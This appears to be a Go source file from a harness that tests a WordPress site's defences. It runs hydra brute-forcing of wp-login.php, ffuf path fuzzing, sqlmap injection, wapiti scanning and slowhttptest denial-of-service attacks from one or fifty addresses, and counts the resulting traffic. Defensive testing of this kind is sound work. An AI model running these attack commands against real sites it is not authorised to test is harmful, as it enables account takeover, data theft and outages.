//go:build linux

package main

import (
	"context"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// toolAttacks are the attacks by programs that attackers use.
func toolAttacks() []attack {
	hydra := []program{{"hydra", "hydra"}}
	return []attack{
		{name: "hydra-1", addrs: 1, needs: hydra, about: "hydra at wp-login.php, 4 tasks, from 1 address",
			counts: posts("/wp-login.php"), run: runHydra},
		{name: "hydra-50", short: true, addrs: 50, needs: hydra, about: "the same from 50 addresses",
			counts: posts("/wp-login.php"), run: runHydra},
		{name: "ffuf", addrs: 1, needs: []program{{"ffuf", "ffuf"}, {"/usr/share/dirb/wordlists/common.txt", "dirb"}},
			about: "ffuf with the common paths of dirb, 20 threads with a pause of 0.5 s, from 1 address",
			run: func(ctx context.Context, a *attacker) {
				a.tool(ctx, true, "ffuf", "-u", "http://"+siteHost+"/FUZZ",
					"-w", "/usr/share/dirb/wordlists/common.txt", "-t", "20", "-p", "0.5", "-s")
			}},
		{name: "sqlmap", addrs: 1, needs: []program{{"sqlmap", "sqlmap"}}, about: "sqlmap at the search, with the user agents of browsers, from 1 address",
			run: func(ctx context.Context, a *attacker) {
				a.tool(ctx, true, "sqlmap", "-u", "http://"+siteHost+"/?s=river&cat=1", "--batch", "--random-agent",
					"--level=2", "--threads=4", "--flush-session", "--output-dir="+filepath.Join(a.dir, "sqlmap"))
			}},
		{name: "wapiti", addrs: 1, needs: []program{{"wapiti", "wapiti"}},
			about: "wapiti, a scanner for vulnerabilities, from 1 address",
			run: func(ctx context.Context, a *attacker) {
				a.tool(ctx, true, "wapiti", "-u", "http://"+siteHost+"/", "--scope", "domain",
					"-m", "backup,file,exec,sql,xss", "--flush-session",
					"--store-session", filepath.Join(a.dir, "wapiti"),
					"-f", "txt", "-o", filepath.Join(a.dir, "wapiti.txt"),
					"--max-scan-time", fmt.Sprint(int(a.length.Seconds())), "--no-bugreport", "-d", "2")
			}},
		{name: "slow-headers", addrs: 1, needs: []program{{"slowhttptest", "slowhttptest"}}, about: "slowhttptest -H: 1000 connections whose headers never end, from 1 address",
			run: func(ctx context.Context, a *attacker) {
				a.tool(ctx, false, "slowhttptest", "-H", "-c", "1000", "-r", "200", "-i", "10", "-x", "24", "-p", "3",
					"-l", fmt.Sprint(int(a.length.Seconds())), "-u", "http://"+siteHost+"/")
			}},
		{name: "slow-bodies", addrs: 50, needs: []program{{"slowhttptest", "slowhttptest"}}, about: "slowhttptest -B: 1000 forms whose bodies never end, at wp-login.php, from 50 addresses",
			run: func(ctx context.Context, a *attacker) {
				a.tool(ctx, false, "slowhttptest", "-B", "-c", "1000", "-r", "200", "-i", "10", "-s", "8192",
					"-x", "10", "-p", "3", "-l", fmt.Sprint(int(a.length.Seconds())),
					"-u", "http://"+siteHost+"/wp-login.php")
			}},
	}
}

func runHydra(ctx context.Context, a *attacker) {
	var list strings.Builder
	for i := range int(3*a.length.Seconds()) + 3 {
		fmt.Fprintf(&list, "guess%d\n", i)
	}
	passwords := filepath.Join(a.dir, "passwords")
	if err := os.WriteFile(passwords, []byte(list.String()), 0o644); err != nil {
		a.note(err.Error())
		return
	}
	a.tool(ctx, true, "hydra", "-I", "-l", "admin", "-P", passwords, "-t", "4", "-W", "1", siteHost, "http-post-form",
		"/wp-login.php:log=^USER^&pwd=^PASS^&wp-submit=Log+In&testcookie=1:F=login_error")
}

// tool runs a program until it ends or ctx is done. Its connections to the site come from the addresses
// of the attack, one after the other. If requests is false, the connections are counted.
func (a *attacker) tool(ctx context.Context, requests bool, name string, args ...string) {
	forward, err := newForwarder(a.addrs, func(r *http.Request) {
		if requests {
			a.count(r.Method, r.URL.RequestURI())
		}
	})
	if err != nil {
		a.note(err.Error())
		return
	}
	defer forward.close()
	log, err := os.Create(filepath.Join(a.dir, name+".log"))
	if err != nil {
		a.note(err.Error())
		return
	}
	defer log.Close()
	cmd := forward.command(ctx, a.dir, name, args...)
	cmd.Stdout, cmd.Stderr = log, log
	began := time.Now()
	err = cmd.Run()
	if ctx.Err() == nil {
		a.note(fmt.Sprintf("%s ended after %v (%v)", name, time.Since(began).Round(time.Second), err))
	}
	if !requests {
		a.sent.Add(forward.connections())
	}
}
